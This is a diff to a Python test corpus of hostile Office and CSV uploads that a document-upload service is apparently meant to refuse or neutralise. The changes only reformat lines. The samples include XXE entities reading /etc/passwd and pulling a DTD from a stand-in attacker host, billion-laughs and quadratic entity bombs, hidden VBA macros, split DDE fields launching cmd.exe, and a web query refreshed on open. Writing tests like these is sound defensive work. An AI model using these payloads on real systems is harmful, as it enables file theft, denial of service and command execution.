@@ -25,9 +25,7 @@ from tests.kernel.corpus.uploads import Outcome, Upload
 FAR = "http://attacker.invalid"
 TEXT = paragraph("Kính gửi các đơn vị")
 LAUGHS = (
-    "<!DOCTYPE l [<!ENTITY l0 'ha'>"
-    + "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10))
-    + "]>"
+    "<!DOCTYPE l [<!ENTITY l0 'ha'>" + "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10)) + "]>"
 )
 READ_FILE = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
 READ_NET = f'<!DOCTYPE d SYSTEM "{FAR}/evil.dtd">'
@@ -62,13 +60,9 @@ def entities() -> Iterator[Upload]:
     yield refused("entity", "xxe-sheet", "a8.xlsx", with_type(sheet, page, READ_FILE, "Họ", "&x;"))
     yield refused("entity", "billion-laughs-xlsx", "a9.xlsx", with_type(sheet, page, LAUGHS, "Họ", "&l9;"))
     strings = f"{XML}{LAUGHS}<sst xmlns='{SHEET}'><si><t>&l9;</t></si></sst>"
-    yield refused(
-        "entity", "laughs-shared-strings", "a10.xlsx", zipped(sheet | {"xl/sharedStrings.xml": strings})
-    )
+    yield refused("entity", "laughs-shared-strings", "a10.xlsx", zipped(sheet | {"xl/sharedStrings.xml": strings}))
     square = f"<!DOCTYPE d [<!ENTITY q '{'q' * 60_000}'>]>"
-    yield refused(
-        "entity", "quadratic-blow-up", "a11.docx", with_type(word, main, square, "Kính", "&q;" * 60_000)
-    )
+    yield refused("entity", "quadratic-blow-up", "a11.docx", with_type(word, main, square, "Kính", "&q;" * 60_000))
     wide = word[main]
     assert isinstance(wide, str)
     wide = wide.replace(XML, f'<?xml version="1.0" encoding="UTF-16"?>{READ_FILE}').replace("Kính", "&x;")
@@ -84,13 +78,9 @@ def macros() -> Iterator[Upload]:
     macro_sheet = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
     word, sheet = docx_members(TEXT, mime=macro_word), xlsx_members(mime=macro_sheet)
     yield refused("macro", "docm", "mau bao cao.docm", zipped(word | {"word/vbaProject.bin": project}))
-    yield refused(
-        "macro", "docm-renamed", "mau bao cao.docx", zipped(word | {"word/vbaProject.bin": project})
-    )
+    yield refused("macro", "docm-renamed", "mau bao cao.docx", zipped(word | {"word/vbaProject.bin": project}))
     yield refused("macro", "xlsm", "mau cham cong.xlsm", zipped(sheet | {"xl/vbaProject.bin": project}))
-    yield refused(
-        "macro", "xlsm-renamed", "mau cham cong.xlsx", zipped(sheet | {"xl/vbaProject.bin": project})
-    )
+    yield refused("macro", "xlsm-renamed", "mau cham cong.xlsx", zipped(sheet | {"xl/vbaProject.bin": project}))
     plain = docx_members(TEXT) | {"word/vbaProject.bin": project}
     yield refused("macro", "vba-behind-plain-types", "sach.docx", zipped(plain))
     odd = docx_members(TEXT) | {
@@ -144,12 +134,8 @@ def links() -> Iterator[Upload]:
     words = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'
     field = f"<w:p><w:r><w:instrText> {words} </w:instrText></w:r></w:p>"
     yield refused("link", "dde-field", "truong dde.docx", zipped(docx_members(TEXT + field)))
-    cut = "".join(
-        f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in (" DD", "EAU", 'TO excel "x" ')
-    )
-    yield refused(
-        "link", "dde-field-in-pieces", "truong cat.docx", zipped(docx_members(f"{TEXT}<w:p>{cut}</w:p>"))
-    )
+    cut = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in (" DD", "EAU", 'TO excel "x" '))
+    yield refused("link", "dde-field-in-pieces", "truong cat.docx", zipped(docx_members(f"{TEXT}<w:p>{cut}</w:p>")))
     dde = f'{XML}<externalLink xmlns="{SHEET}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
     yield refused(
         "link",
@@ -161,9 +147,7 @@ def links() -> Iterator[Upload]:
         f'{XML}<connections xmlns="{SHEET}"><connection id="1" type="4" name="w" refreshOnLoad="1">'
         f'<webPr url="{FAR}/q.iqy"/></connection></connections>'
     )
-    yield refused(
-        "link", "web-query-on-open", "truy van.xlsx", zipped(xlsx_members() | {"xl/connections.xml": query})
-    )
+    yield refused("link", "web-query-on-open", "truy van.xlsx", zipped(xlsx_members() | {"xl/connections.xml": query}))
     chunk = docx_members(TEXT + '<w:altChunk r:id="rId8" />') | {
         rels: relations(("rId8", "aFChunk", "a.html", False)),
         "word/a.html": "<html><script>alert(1)</script></html>",
@@ -214,9 +198,7 @@ def formulas() -> Iterator[Upload]:
         text = "\n".join(";".join(row) for row in rows).encode()
         yield Upload(f"{trait}-csv", "formula", f"{trait}.csv", text, Outcome.NEUTRALISED)
     far = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
-    yield Upload(
-        "sheet-of-17-billion-cells", "size", "trang rong.xlsx", zipped(xlsx_members(far)), Outcome.NEUTRALISED
-    )
+    yield Upload("sheet-of-17-billion-cells", "size", "trang rong.xlsx", zipped(xlsx_members(far)), Outcome.NEUTRALISED)
 
 
 def offices() -> Iterator[Upload]:
